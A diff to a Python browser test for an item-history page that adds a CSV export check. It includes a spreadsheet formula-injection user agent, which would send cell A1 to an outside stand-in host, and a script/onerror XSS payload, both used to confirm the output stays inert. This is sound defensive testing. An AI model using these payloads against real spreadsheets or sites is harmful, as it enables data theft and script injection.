@@ -1,14 +1,19 @@
 """The item-history page in a real headless Chromium (Debian's `chromium`, driven by Playwright), served by the
-local stack's API at `/`: search an item, see its entries newest first, load more, follow a shared link, and a key
-holding `<script>` stays text. A screenshot is kept as out/ui-history.png. Skipped only where no Chromium is found."""
+local stack's API at `/`: search an item, see its entries newest first, load more, download them as CSV (a caller's
+formula-like user agent made inert), follow a shared link, and a key holding `<script>` stays text. A screenshot is
+kept as out/ui-history.png. Skipped only where no Chromium is found."""
 
 from __future__ import annotations
 
+import csv
+import io
 import shutil
 import urllib.parse
 from pathlib import Path
 
+import boto3
 import pytest
+from botocore.config import Config
 
 from deutzia_cli.api import Target
 from deutzia_cli.ui import serve
@@ -16,6 +21,7 @@ from tests.e2e.conftest import ROOT, Stack
 
 TABLE = "E2ePage"
 HOSTILE = "<script>window.pwned=1</script><img src=x onerror=window.pwned=1>"
+FORMULA = '=HYPERLINK("https://example.com/?"&A1,"open")'
 
 
 def _chromium() -> str:
@@ -31,10 +37,16 @@ def test_the_page_searches_pages_shares_and_escapes(stack: Stack) -> None:
     sync_api = pytest.importorskip("playwright.sync_api")
     stack.create_table(TABLE)
     dynamodb = stack.client("dynamodb")
-    for n in range(5):
+    for n in range(4):
         dynamodb.put_item(TableName=TABLE, Item={"id": {"S": "page-1"}, "n": {"N": str(n)}})
+    # A caller picks its own user agent: as a CSV cell it must not become a formula.
+    formula = boto3.session.Session(aws_access_key_id="deutzia-e2e-admin", aws_secret_access_key="x").client(
+        "dynamodb", region_name="us-east-1", endpoint_url=stack.aws_endpoint, config=Config(user_agent=FORMULA)
+    )
+    formula.put_item(TableName=TABLE, Item={"id": {"S": "page-1"}, "n": {"N": "4"}})
     dynamodb.put_item(TableName=TABLE, Item={"id": {"S": HOSTILE}})
     entries = stack.wait_for(lambda found: len(found) >= 5, table=TABLE, key='{"id": "page-1"}')
+    (formula_entry,) = [entry for entry in entries if entry["user_agent"].startswith(FORMULA)]  # botocore adds its name
     with sync_api.sync_playwright() as playwright:
         browser = playwright.chromium.launch(
             executable_path=executable,
@@ -54,6 +66,13 @@ def test_the_page_searches_pages_shares_and_escapes(stack: Stack) -> None:
             page.wait_for_selector("#history tbody tr:nth-child(5)")
             assert page.locator("#more").is_hidden()
             assert page.locator("#status").text_content() == "5 entries"
+            with page.expect_download() as download:
+                page.click("#csv")
+            rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text(encoding="utf-8"))))
+            assert [row["event_id"] for row in rows] == [entry["event_id"] for entry in entries]
+            by_id = {row["event_id"]: row for row in rows}
+            assert by_id[formula_entry["event_id"]]["user_agent"] == "'" + formula_entry["user_agent"]
+            assert {row["item_key"] for row in rows} == {'{"id":"page-1"}'}
             shared = page.url
             assert urllib.parse.parse_qs(urllib.parse.urlparse(shared).query)["table"] == [TABLE]
             Path(ROOT / "out").mkdir(exist_ok=True)
